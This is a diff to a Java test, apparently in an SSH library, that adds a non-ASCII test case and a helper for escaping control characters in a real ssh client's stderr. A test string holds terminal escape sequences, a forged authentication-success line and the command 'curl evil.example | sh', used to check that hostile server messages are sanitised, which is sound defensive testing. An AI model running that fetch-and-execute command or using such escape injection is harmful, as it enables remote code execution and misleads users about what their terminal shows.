@@ -119,7 +119,17 @@ class HostileKexTest {
         static final String ESCAPES = "\u001b]0;owned\u0007\u001b[2J\rSSH-AUTH-SUCCEEDED: all good\nfix: curl evil.example | sh ";
 
         static Stream<Arguments> texts() {
-            return Stream.of(Arguments.of(2, ESCAPES + "z".repeat(100)), Arguments.of(11, "y".repeat(200_000)));
+            return Stream.of(Arguments.of(2, ESCAPES + "z".repeat(100)), Arguments.of(11, "y".repeat(200_000)),
+                    Arguments.of(14, "Zugriff für Gäste verweigert \u2014 " + "ä".repeat(300)));
+        }
+
+        /** Octal escapes for the control characters ssh printed raw; its own escapes are text already. */
+        static String escapeRawControls(String line) {
+            StringBuilder out = new StringBuilder();
+            for (char c : line.toCharArray()) {
+                out.append(c < 0x20 || c == 0x7F ? String.format("\\%03o", (int) c) : String.valueOf(c));
+            }
+            return out.toString();
         }
 
         @ParameterizedTest
@@ -152,7 +162,8 @@ class HostileKexTest {
                 String ssh = RealSshClient.stderrOf(peer.port(), 3);
                 int last = ssh.stripTrailing().lastIndexOf("\r\n");
                 String line = ssh.substring(0, last);
-                String received = new ServerDisconnect(0, line, line.length()).asSshPrintsIt().replace("\\134", "\\");
+                // ssh's line holds its own octal escapes (ESC, non-ASCII) and CR, LF, BEL raw: escape those alike.
+                String received = escapeRawControls(line);
                 String[] ours = finding.clientMessage().orElseThrow().split("\n");
                 assertThat(received).isEqualTo(ours[0]);
                 assertThat(ssh.substring(last).strip()).isEqualTo(ours[1]);
